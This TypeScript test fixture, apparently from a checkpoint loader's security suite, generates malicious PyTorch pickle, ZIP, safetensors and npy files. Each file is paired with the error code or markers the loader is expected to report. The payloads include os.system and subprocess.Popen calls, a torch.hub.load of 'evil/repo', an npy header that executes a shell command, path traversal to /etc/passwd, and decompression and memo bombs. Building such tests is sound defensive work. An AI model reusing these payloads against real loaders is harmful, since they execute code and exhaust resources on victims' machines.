/**
 * Files that were made, or could be made, to attack whoever opens them, each with the one answer that is right: the code of its error, or
 * that it opens and which markers it then lists. Made here, so that no scanner stumbles over the repository.
 */

import { readFileSync } from "node:fs";
import { writeNpy } from "../sdk/checkpoint/npy.js";
import { writeSafetensors } from "../sdk/checkpoint/safetensors-write.js";
import { images } from "./attacks-images.js";
import {
  archive,
  call,
  checkpoint,
  dict,
  EMPTY,
  extra64,
  int,
  legacy,
  list,
  name,
  ordered,
  persistent,
  pickle,
  SIX,
  storage,
  tensor,
  text,
  tuple,
  zip,
  zip64,
} from "./forge.js";
import { latin1 } from "./helpers.js";

export interface Attack {
  readonly name: string;
  readonly opens: "checkpoint" | "npy" | "image";
  readonly bytes: () => Uint8Array<ArrayBuffer>;
  /** "none" where the file opens. */
  readonly code: string;
  /** Path and name of each marker that must be listed. */
  readonly opaque?: readonly (readonly [string, string])[];
}

const system = call(name("os", "system"), text("touch pwned"));
const evaluate = call(name("builtins", "eval"), text("1"));
const hub = call(name("torch.hub", "load"), text("evil/repo"), text("model"));
const safe = ["w", tensor()] as const;

type Row = readonly [string, string, () => Uint8Array<ArrayBuffer>, (readonly (readonly [string, string])[])?];
const weights = (value: string) => () => archive(checkpoint([safe, ["evil", value]]));
const beside = (key: string, value: string) => () => archive(checkpoint([safe], [key, value]));
const shaped = (change: Parameters<typeof tensor>[0]) => () => archive(checkpoint([["w", tensor(change)]]));
const good = checkpoint([safe]);
const root = (body: string) => () => archive(pickle(body));

const globals: Row[] = [
  ["os.system called in the weights", "CKPT_UNKNOWN_GLOBAL", weights(system)],
  ["os.system called in meta", "none", beside("meta", dict(["hook", system])), [["meta.hook", "os.system"]]],
  ["builtins.eval in the weights", "CKPT_UNKNOWN_GLOBAL", weights(evaluate)],
  [
    "builtins.eval in optimizer",
    "none",
    beside("optimizer", dict(["a", list(evaluate)])),
    [["optimizer.a.0", "builtins.eval"]],
  ],
  ["torch.hub in the weights", "CKPT_UNKNOWN_GLOBAL", weights(hub)],
  ["torch.hub in message_hub", "none", beside("message_hub", hub), [["message_hub", "torch.hub.load"]]],
  ["a name alone in the weights", "CKPT_UNKNOWN_GLOBAL", weights(name("os", "system"))],
  [
    "CVE-2025-10157: a submodule of a listed one",
    "CKPT_UNKNOWN_GLOBAL",
    weights(call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), text("id"))),
  ],
  [
    "CVE-2025-10156: a wrong checksum hides nothing",
    "CKPT_UNKNOWN_GLOBAL",
    () => archive(checkpoint([["w", system]]), ([a, ...m]) => [{ ...a, crc: 1 }, ...m]),
  ],
  [
    "STACK_GLOBAL of protocol 4",
    "CKPT_UNKNOWN_GLOBAL",
    () =>
      archive(pickle(dict(["state_dict", ordered(["w", `\x8c\x05posix\x8c\x06system\x93${tuple(text("id"))}R`])]), 4)),
  ],
  ["INST", "CKPT_UNKNOWN_GLOBAL", weights(`(${text("id")}ios\nsystem\n`)],
  ["OBJ", "CKPT_UNKNOWN_GLOBAL", weights(`(${name("os", "system")}${text("id")}o`)],
  ["NEWOBJ", "CKPT_UNKNOWN_GLOBAL", weights(`${name("subprocess", "Popen")}${tuple(text("id"))}\x81`)],
  [
    "NEWOBJ_EX",
    "CKPT_UNKNOWN_GLOBAL",
    weights(`${name("subprocess", "Popen")}${tuple(text("id"))}${dict(["shell", "\x88"])}\x92`),
  ],
  [
    "a call of a call's result",
    "CKPT_UNKNOWN_GLOBAL",
    weights(call(call(name("builtins", "getattr"), name("os", "system"), text("__call__")), text("id"))),
  ],
  ["the root is a call", "CKPT_UNKNOWN_GLOBAL", root(system)],
  [
    "the state dict is a call",
    "CKPT_UNKNOWN_GLOBAL",
    () => archive(pickle(dict(["state_dict", system], ["model", ordered(safe)]))),
  ],
  [
    "a dotted name below a listed one",
    "CKPT_UNKNOWN_GLOBAL",
    weights(call(name("torch._utils", "_rebuild_tensor_v2.__globals__.get"), text("os"))),
  ],
  ["hooks of a tensor", "CKPT_UNKNOWN_GLOBAL", weights(tensor({ hooks: ordered(["0", system]) }))],
  ["a tensor of a call's storage", "CKPT_UNKNOWN_GLOBAL", weights(tensor({ from: system }))],
  [
    "a parameter of a call's tensor",
    "CKPT_UNKNOWN_GLOBAL",
    weights(call(name("torch._utils", "_rebuild_parameter"), system, "\x88", EMPTY)),
  ],
  ["an unknown storage class", "CKPT_UNKNOWN_GLOBAL", weights(tensor({ from: storage("0", 6, "EvilStorage") }))],
  [
    "an unknown storage class in optimizer",
    "none",
    beside("optimizer", tensor({ from: storage("0", 6, "EvilStorage") })),
    [
      ["optimizer", "torch._utils._rebuild_tensor_v2"],
      ["optimizer", "torch.EvilStorage"],
    ],
  ],
  [
    "a tensor class of its own",
    "CKPT_UNKNOWN_GLOBAL",
    weights(call(name("torch._tensor", "_rebuild_from_type_v2"), name("evil", "f"))),
  ],
  [
    "_metadata that holds a call",
    "none",
    () => archive(pickle(dict(["state_dict", `${ordered(safe)}${dict(["_metadata", system])}b`]))),
    [["state_dict._metadata", "os.system"]],
  ],
  [
    "a numpy scalar of objects",
    "none",
    beside("meta", call(name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), text("O8")), system)),
    [
      ["meta", "numpy.core.multiarray.scalar"],
      ["meta", "numpy.dtype"],
      ["meta", "os.system"],
    ],
  ],
  [
    "_codecs.encode with a codec of its own",
    "none",
    beside("meta", call(name("_codecs", "encode"), text("x"), text("evil"))),
    [["meta", "_codecs.encode"]],
  ],
  [
    "an object with state",
    "none",
    beside("meta", `${name("evil", "C")})\x81${dict(["a", system])}b`),
    [
      ["meta", "evil.C"],
      ["meta.a", "os.system"],
    ],
  ],
  [
    "a hostile member that nothing refers to",
    "none",
    () => archive(good, (m) => [...m, { name: "archive/evil.pkl", data: pickle(system) }]),
  ],
];

const memoBomb = Array.from({ length: 40 }, () => "0](h\0h\0eq\0").join("");
const pickles: Row[] = [
  ["CVE-2026-24747: SETITEM on a tensor", "CKPT_PICKLE", weights(`${tensor()}${text("k")}${text("v")}s`)],
  ["CVE-2026-24747: SETITEMS on a list", "CKPT_PICKLE", beside("meta", `](${text("k")}${text("v")}u`)],
  ["CVE-2026-24747: a storage larger than its member", "CKPT_OFFSETS", shaped({ from: storage("0", 600) })],
  [
    "CVE-2026-24747: a storage smaller than its member",
    "CKPT_OFFSETS",
    shaped({ from: storage("0", 5), shape: [5], strides: [1] }),
  ],
  ["SETITEM on a tuple", "CKPT_PICKLE", beside("meta", `)${text("k")}${text("v")}s`)],
  ["APPEND on a tuple", "CKPT_PICKLE", beside("meta", `)${text("k")}a`)],
  ["APPENDS on a dict", "CKPT_PICKLE", beside("meta", `}(${text("k")}e`)],
  [
    "BUILD of an OrderedDict with a list",
    "CKPT_PICKLE",
    () => archive(pickle(dict(["state_dict", `${ordered(safe)}]b`]))),
  ],
  ["BUILD of a list", "CKPT_PICKLE", beside("meta", "]}b")],
  ["BUILD of a tensor", "CKPT_PICKLE", weights(`${tensor()}}b`)],
  ["a call of a text", "CKPT_PICKLE", beside("meta", `${text("os.system")})R`)],
  ["a call with a list of arguments", "CKPT_PICKLE", beside("meta", `${name("os", "system")}]R`)],
  ["a memo bomb of 2^40 leaves", "CKPT_LIMIT", beside("meta", `]q\0${memoBomb}`)],
  ["2 million nested lists", "CKPT_LIMIT", root("]".repeat(2e6) + "a".repeat(2e6 - 1))],
  ["400,000 nested tuples", "CKPT_LIMIT", beside("meta", `)${"\x85".repeat(400_000)}`)],
  ["lists nested 300 deep", "CKPT_LIMIT", beside("meta", "]".repeat(300) + "a".repeat(299))],
  ["300 marks", "CKPT_LIMIT", root("(".repeat(300))],
  ["a million operations", "CKPT_LIMIT", root("N0".repeat(600_000))],
  [
    "an OrderedDict of one long list, again and again",
    "CKPT_LIMIT",
    root(`](${list(text("a"), "N").repeat(3000)}eq\0${`${name("collections", "OrderedDict")}h\0\x85R0`.repeat(3000)}`),
  ],
  ["an integer of 16 MB", "CKPT_LIMIT", root(`\x8b\0\0\0\x01${"\x01".repeat(2 ** 24)}`)],
  ["a list that holds itself", "CKPT_PICKLE", beside("meta", "]q\0h\0a")],
  ["a length of 2^63", "CKPT_PICKLE", root("\x8e\0\0\0\0\0\0\0\x80")],
  ["a text longer than the file", "CKPT_PICKLE", root("X\xff\xff\xff\x7fabc")],
  ["a text that is not UTF-8", "CKPT_PICKLE", root("X\x02\0\0\0\xff\xfe")],
  ["a name without end", "CKPT_PICKLE", root(`c${"a".repeat(5000)}`)],
  ["an operation without its operand", "CKPT_PICKLE", root("R")],
  ["an operation without its mark", "CKPT_PICKLE", root("t")],
  ["a value that was never remembered", "CKPT_PICKLE", root("h\x05")],
  ["bytes behind the end", "CKPT_PICKLE", () => archive(`${good}${pickle(system)}`)],
  ["values left over", "CKPT_PICKLE", root(`N${dict(["state_dict", ordered(safe)])}`)],
  ["no end", "CKPT_PICKLE", () => archive(good.slice(0, -1))],
  ["an empty data.pkl", "CKPT_PICKLE", () => archive("")],
  ["protocol 0", "CKPT_PICKLE", () => archive("cos\nsystem\n(S'id'\ntR.")],
  ["protocol 255", "CKPT_PICKLE", () => archive(`\x80\xff${good.slice(2)}`)],
  ["a text persistent id", "CKPT_PICKLE", root("Pstorage\n")],
  ["an extension code", "CKPT_PICKLE", root("\x82\x01")],
  ["a buffer outside the file", "CKPT_PICKLE", () => archive(pickle("\x97", 5))],
  ["a persistent id of 2 parts", "CKPT_PICKLE", weights(persistent(text("storage"), name("torch", "FloatStorage")))],
  [
    "a persistent id of 7 parts",
    "CKPT_PICKLE",
    weights(persistent(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), int(6), "N", "N")),
  ],
  ["a persistent id that is no tuple", "CKPT_PICKLE", weights(`${text("storage")}Q`)],
  [
    "a persistent id of another kind",
    "CKPT_PICKLE",
    weights(persistent(text("file"), name("torch", "FloatStorage"), text("/etc/passwd"), text("cpu"), int(6))),
  ],
  ["a storage key that leads out", "CKPT_TRUNCATED", shaped({ from: storage("../../etc/passwd") })],
  ["a storage of negative size", "CKPT_PICKLE", shaped({ from: storage("0", -6) })],
  ["a list as key", "CKPT_PICKLE", beside("meta", "}]Ns")],
  [
    "a tensor of 3 arguments",
    "CKPT_PICKLE",
    weights(call(name("torch._utils", "_rebuild_tensor_v2"), storage(), int(0), tuple())),
  ],
  [
    "a tensor without storage",
    "CKPT_PICKLE",
    weights(call(name("torch._utils", "_rebuild_tensor_v2"), int(0), int(0), tuple(), tuple())),
  ],
  [
    "one name with and without module.",
    "CKPT_DUPLICATE",
    () =>
      archive(
        checkpoint([
          ["module.w", tensor()],
          ["w", tensor()],
        ]),
      ),
  ],
  ["no tensors at all", "CKPT_FORMAT", root(dict(["epoch", int(1)]))],
  [
    "keys of every object",
    "none",
    () =>
      archive(
        checkpoint(
          ["__proto__", "constructor", "toString", "hasOwnProperty"].map((key) => [key, tensor()]),
          [
            "meta",
            dict(
              ["__proto__", dict(["polluted", text("yes")])],
              ["constructor", dict(["prototype", dict(["polluted", text("yes")])])],
            ),
          ],
        ),
      ),
  ],
];

const tensors: Row[] = [
  ["a negative stride", "CKPT_OFFSETS", shaped({ strides: [-3, 1] })],
  ["a huge stride", "CKPT_OFFSETS", shaped({ strides: [2 ** 40, 1] })],
  ["strides beyond the storage", "CKPT_OFFSETS", shaped({ strides: [4, 1] })],
  ["an offset beyond the storage", "CKPT_OFFSETS", shaped({ offset: 1 })],
  ["a negative offset", "CKPT_OFFSETS", shaped({ offset: -1 })],
  ["a negative size", "CKPT_OFFSETS", shaped({ shape: [-2, -3] })],
  ["2^53 elements", "CKPT_OFFSETS", shaped({ shape: [2 ** 27, 2 ** 26], strides: [0, 0] })],
  ["a size of 2^64", "CKPT_OFFSETS", shaped({ shape: [2n ** 64n, 1], strides: [0, 0] })],
  ["elements that wrap to 6 in 64 bits", "CKPT_OFFSETS", shaped({ shape: [2 ** 32, 2 ** 32, 6], strides: [0, 0, 1] })],
  ["one element 2^40 times", "CKPT_LIMIT", shaped({ shape: [2 ** 40], strides: [0] })],
  ["fewer strides than sizes", "CKPT_OFFSETS", shaped({ strides: [1] })],
  ["1,000 dimensions", "CKPT_OFFSETS", shaped({ shape: Array(1000).fill(1), strides: Array(1000).fill(1) })],
  [
    "a shape that is a text",
    "CKPT_OFFSETS",
    weights(call(name("torch._utils", "_rebuild_tensor_v2"), storage(), int(0), text("23"), text("31"), "\x89", EMPTY)),
  ],
];

const change = (index: number, more: object) => (members: object[]) =>
  members.map((member, i) => (i === index ? { ...member, ...more } : member)) as never;
const end64 = (start: number, size: number, count: number) =>
  zip64(BigInt(start), BigInt(size), BigInt(count), BigInt(start + size));
const archives: Row[] = [
  ["GHSA-w8jq-xcqf-f792: the bit of encryption", "CKPT_ZIP", () => archive(good, change(0, { flags: 0x0801 }))],
  [
    "GHSA-7q5r-7gvp-wc82: another flag in the local header",
    "CKPT_ZIP",
    () => archive(good, change(0, { local: { flags: 0x0801 } })),
  ],
  [
    "GHSA-769v-p64c-89pr: another name in the local header",
    "CKPT_ZIP",
    () => archive(good, change(0, { local: { name: "archive/data.pkx" } })),
  ],
  [
    "GHSA-655q-fx9r-782v: another checksum in the local header",
    "CKPT_ZIP",
    () => archive(good, change(0, { local: { crc: 1 } })),
  ],
  ["CVE-2025-10155: a pickle by another name", "CKPT_FORMAT", () => latin1(pickle(system))],
  [
    "CVE-2025-32434: a tar archive, torch's oldest format",
    "CKPT_FORMAT",
    () => latin1(`storages${"\0".repeat(249)}ustar  \0${"\0".repeat(247)}${pickle(system)}`),
  ],
  ["another size in the local header", "CKPT_ZIP", () => archive(good, change(1, { local: { size: 4 } }))],
  ["another method in the local header", "CKPT_ZIP", () => archive(good, change(0, { local: { method: 8 } }))],
  ["a deflate bomb", "CKPT_ZIP", () => archive(good, change(1, { method: 8, size: 2 ** 31, packed: 24 }))],
  ["a stored member of two sizes", "CKPT_ZIP", () => archive(good, change(1, { packed: 4 }))],
  ["a name twice", "CKPT_ZIP", () => archive(good, (m) => [...m, m[0]])],
  ["a name with ../", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "archive/../../.bashrc", data: "" }])],
  ["an absolute name", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "/etc/passwd", data: "" }])],
  ["a name with backslashes", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "archive\\..\\x", data: "" }])],
  ["a name with a drive", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "C:x", data: "" }])],
  ["a name with a zero", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "archive/x\0.pkl", data: "" }])],
  ["a name that is not UTF-8", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "archive/\xff", data: "" }])],
  [
    "overlapping storages",
    "CKPT_ZIP",
    () =>
      archive(checkpoint([safe, ["v", tensor({ from: storage("1") })]]), (m) => [
        ...m,
        { name: "archive/data/1", data: SIX, offset: good.length + 46 },
      ]),
  ],
  ["a member inside another", "CKPT_ZIP", () => archive(good, change(2, { offset: 60 }))],
  ["a member beyond the file", "CKPT_ZIP", () => archive(good, change(1, { offset: 2 ** 31 }))],
  ["two checkpoints", "CKPT_ZIP", () => archive(good, (m) => [...m, { name: "other/data.pkl", data: pickle(system) }])],
  ["an archive of something else", "CKPT_FORMAT", () => zip([{ name: "word/document.xml", data: "<x/>" }])],
  ["an npz of a cut array", "CKPT_HEADER", () => zip([{ name: "a.npy", data: "\x93NUMPY" }])],
  ["a storage that is missing", "CKPT_TRUNCATED", () => archive(good, (m) => [m[0]])],
  ["byteorder=big", "CKPT_FORMAT", () => archive(good, (m) => [...m, { name: "archive/byteorder", data: "big" }])],
  [
    "an end record in the comment",
    "CKPT_ZIP",
    () => archive(good, undefined, { comment: "PK\x05\x06".padEnd(22, "\0") }),
  ],
  ["a comment", "CKPT_ZIP", () => archive(good, undefined, { comment: "hello" })],
  ["bytes behind the end", "CKPT_ZIP", () => archive(good, undefined, { behind: "hello" })],
  [
    "a second archive behind the first",
    "CKPT_ZIP",
    () => archive(good, undefined, { behind: String.fromCharCode(...archive(checkpoint([["w", system]]))) }),
  ],
  ["a directory that is cut off", "CKPT_TRUNCATED", () => archive(good).slice(0, -60)],
  ["more members than there are", "CKPT_ZIP", () => archive(good, undefined, { count: 9 })],
  ["fewer members than there are", "CKPT_ZIP", () => archive(good, undefined, { count: 2 })],
  ["a directory elsewhere", "CKPT_ZIP", () => archive(good, undefined, { start: 0 })],
  ["a directory of another size", "CKPT_ZIP", () => archive(good, undefined, { size: 10 })],
  ["saturated numbers without zip64", "CKPT_ZIP", () => archive(good, undefined, { count: 0xffff })],
  ["zip64 that counts other members", "CKPT_ZIP", () => archive(good, undefined, { before: (a, b) => end64(a, b, 2) })],
  [
    "zip64 that starts elsewhere",
    "CKPT_ZIP",
    () =>
      archive(good, undefined, {
        start: 2 ** 32 - 1,
        before: (a, b, n) => zip64(0n, BigInt(b), BigInt(n), BigInt(a + b)),
      }),
  ],
  [
    "zip64 that lies elsewhere",
    "CKPT_ZIP",
    () => archive(good, undefined, { before: (a, b, n) => zip64(BigInt(a), BigInt(b), BigInt(n), 7n) }),
  ],
  [
    "zip64 of 2^64 members",
    "CKPT_ZIP",
    () =>
      archive(good, undefined, {
        count: 0xffff,
        before: (a, b) => zip64(BigInt(a), BigInt(b), 2n ** 64n - 1n, BigInt(a + b)),
      }),
  ],
  [
    "zip64 of a billion members",
    "CKPT_LIMIT",
    () =>
      archive(good, undefined, {
        count: 0xffff,
        before: (a, b) => zip64(BigInt(a), BigInt(b), 10n ** 9n, BigInt(a + b)),
      }),
  ],
  ["a zip64 field that nothing asks for", "CKPT_ZIP", () => archive(good, change(1, { extra: extra64(1n) }))],
  [
    "a zip64 offset of 2^63",
    "CKPT_ZIP",
    () => archive(good, change(1, { offset: 0xffffffff, extra: extra64(2n ** 63n) })),
  ],
  [
    "two zip64 fields",
    "CKPT_ZIP",
    () => archive(good, change(1, { offset: 0xffffffff, extra: extra64(0n) + extra64(1n) })),
  ],
  ["an extra field longer than itself", "CKPT_ZIP", () => archive(good, change(1, { extra: "\x01\0\xff\xff" }))],
];

const old = pickle(dict(["state_dict", ordered(["w", tensor({ from: oldStorage() })])]));
function oldStorage(view = "N", key = "0") {
  return persistent(text("storage"), name("torch", "FloatStorage"), text(key), text("cpu"), int(6), view);
}
const streams: Row[] = [
  ["the old format, as it should be", "none", () => legacy(old)],
  [
    "old: os.system in the weights",
    "CKPT_UNKNOWN_GLOBAL",
    () => legacy(pickle(dict(["state_dict", ordered(["w", tensor({ from: oldStorage() })], ["evil", system])]))),
  ],
  [
    "old: os.system in meta",
    "none",
    () => legacy(pickle(dict(["state_dict", ordered(["w", tensor({ from: oldStorage() })])], ["meta", system]))),
    [["meta", "os.system"]],
  ],
  [
    "old: a module with its source",
    "CKPT_UNKNOWN_GLOBAL",
    () =>
      legacy(pickle(`${persistent(text("module"), name("evil", "Net"), text("net.py"), text("import os"))})\x81}b`), {
        keys: [],
        tail: "",
      }),
  ],
  ["old: another magic number", "CKPT_FORMAT", () => legacy(old, { magic: pickle(int(7)) })],
  ["old: another protocol", "CKPT_FORMAT", () => legacy(old, { protocol: 1002 })],
  ["old: a big-endian machine", "CKPT_FORMAT", () => legacy(old, { little: false })],
  ["old: a storage that no tensor has", "CKPT_PICKLE", () => legacy(old, { keys: ["0", "1"] })],
  ["old: a storage twice", "CKPT_PICKLE", () => legacy(old, { keys: ["0", "0"] })],
  ["old: a storage that is not listed", "CKPT_TRUNCATED", () => legacy(old, { keys: [], tail: "" })],
  [
    "old: one storage of two types",
    "CKPT_OFFSETS",
    () => {
      const wide = persistent(text("storage"), name("torch", "DoubleStorage"), text("0"), text("cpu"), int(6), "N");
      const both = ordered(["w", tensor({ from: oldStorage() })], ["v", tensor({ from: wide })]);
      return legacy(pickle(dict(["state_dict", both])));
    },
  ],
  ["old: other sizes", "CKPT_OFFSETS", () => legacy(old, { tail: `\x05\0\0\0\0\0\0\0${SIX}` })],
  ["old: a size of -1", "CKPT_OFFSETS", () => legacy(old, { tail: "\xff".repeat(8) + SIX })],
  ["old: cut off in a storage", "CKPT_TRUNCATED", () => legacy(old).slice(0, -1)],
  ["old: cut off in a pickle", "CKPT_TRUNCATED", () => legacy(old).slice(0, 80)],
  ["old: bytes behind the end", "CKPT_OFFSETS", () => legacy(old, { tail: `\x06\0\0\0\0\0\0\0${SIX}!` })],
  [
    "old: a view beyond its storage",
    "CKPT_OFFSETS",
    () =>
      legacy(
        pickle(dict(["state_dict", ordered(["w", tensor({ from: oldStorage(tuple(text("v"), int(4), int(3))) })])])),
      ),
  ],
];

function safetensors(header: string, data = 8, length = header.length): Uint8Array<ArrayBuffer> {
  const bytes = new Uint8Array(8 + header.length + data);
  new DataView(bytes.buffer).setBigUint64(0, BigInt(length), true);
  bytes.set(latin1(header), 8);
  return bytes;
}
const entry = (offsets: string, dtype = "F32", shape = "[2]") =>
  `{"dtype":"${dtype}","shape":${shape},"data_offsets":${offsets}}`;
const tensorFiles: Row[] = [
  [
    "safetensors: a header of 100 MB and a byte",
    "CKPT_HEADER",
    () => safetensors(`{"a":${entry("[0,8]")}}`, 8, 100_000_001),
  ],
  [
    "safetensors: a header longer than the file",
    "CKPT_TRUNCATED",
    () => safetensors(`{"a":${entry("[0,8]")}}`, 8, 5000),
  ],
  ["safetensors: a name twice", "CKPT_DUPLICATE", () => safetensors(`{"a":${entry("[0,8]")},"a":${entry("[0,8]")}}`)],
  ["safetensors: a hole", "CKPT_OFFSETS", () => safetensors(`{"a":${entry("[4,12]")}}`, 12)],
  ["safetensors: an overlap", "CKPT_OFFSETS", () => safetensors(`{"a":${entry("[0,8]")},"b":${entry("[4,12]")}}`, 12)],
  ["safetensors: inverted offsets", "CKPT_OFFSETS", () => safetensors(`{"a":${entry("[8,0]")}}`)],
  ["safetensors: three offsets", "CKPT_OFFSETS", () => safetensors(`{"a":${entry("[0,4,8]")}}`)],
  ["safetensors: an unknown dtype", "CKPT_DTYPE", () => safetensors(`{"a":${entry("[0,8]", "F31")}}`)],
  [
    "safetensors: shape and bytes that differ",
    "CKPT_OFFSETS",
    () => safetensors(`{"a":${entry("[0,8]", "F32", "[3]")}}`),
  ],
  ["safetensors: a header that is not UTF-8", "CKPT_HEADER", () => safetensors(`{"\xff":${entry("[0,8]")}}`)],
  [
    "safetensors: a pickle behind the data",
    "CKPT_OFFSETS",
    () =>
      latin1(
        String.fromCharCode(...writeSafetensors([["a", { data: new Float32Array(2), shape: [2] }]])) + pickle(system),
      ),
  ],
  [
    "safetensors: a header length that is a pickle's",
    "CKPT_TRUNCATED",
    () => latin1(`\x80\x02cos\0\0{`.padEnd(40, " ").replace("cos\0\0", "cos\0\0\0")),
  ],
  ["HTML saved as .pth", "CKPT_FORMAT", () => latin1("<!DOCTYPE html><html><script>alert(1)</script></html>")],
  ["no bytes", "CKPT_FORMAT", () => new Uint8Array(0)],
  ["a Git LFS pointer", "CKPT_FORMAT", () => latin1("version https://git-lfs.github.com/spec/v1\noid sha256:0")],
  ["gzip", "CKPT_FORMAT", () => latin1("\x1f\x8b\x08\0\0\0\0\0")],
];

function npy(header: string): Uint8Array<ArrayBuffer> {
  return latin1(`\x93NUMPY\x01\0${String.fromCharCode(header.length & 255, header.length >> 8)}${header}`);
}
const arrays: Row[] = [
  ["npy: objects", "NPY_FORMAT", () => npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n")],
  [
    "npy: a header to be evaluated",
    "NPY_FORMAT",
    () => npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }\n"),
  ],
  [
    "npy: a shape to be evaluated",
    "NPY_FORMAT",
    () => npy("{'descr': '<f4', 'fortran_order': False, 'shape': (9**9**9,), }\n"),
  ],
  [
    "npy: a shape of 2^53",
    "NPY_FORMAT",
    () => npy("{'descr': '<f4', 'fortran_order': False, 'shape': (9007199254740993,), }\n"),
  ],
  [
    "npy: a shape of more than there is",
    "NPY_FORMAT",
    () => npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1000000, 1000000), }\n"),
  ],
  [
    "npy: __proto__ as a key",
    "NPY_FORMAT",
    () => npy("{'__proto__': '<f4', 'fortran_order': False, 'shape': (1,), }\n"),
  ],
  ["npy: nesting", "NPY_FORMAT", () => npy(`${"{'a':(".repeat(1000)}\n`)],
  ["npy: cut off", "NPY_FORMAT", () => writeNpy({ data: new Float32Array(9), shape: [9] }).slice(0, -1)],
];

const rowsOf = (opens: Attack["opens"], rows: readonly Row[]): Attack[] =>
  rows.map(([name, code, bytes, opaque]) => ({ name, opens, code, bytes, opaque }));

export const attacks: readonly Attack[] = [
  ...rowsOf("checkpoint", [...globals, ...pickles, ...tensors, ...archives, ...streams, ...tensorFiles]),
  ...rowsOf("npy", arrays),
  ...rowsOf(
    "image",
    images((name) => new Uint8Array(readFileSync(`conformance/golden/full/images/${name}`))),
  ),
];
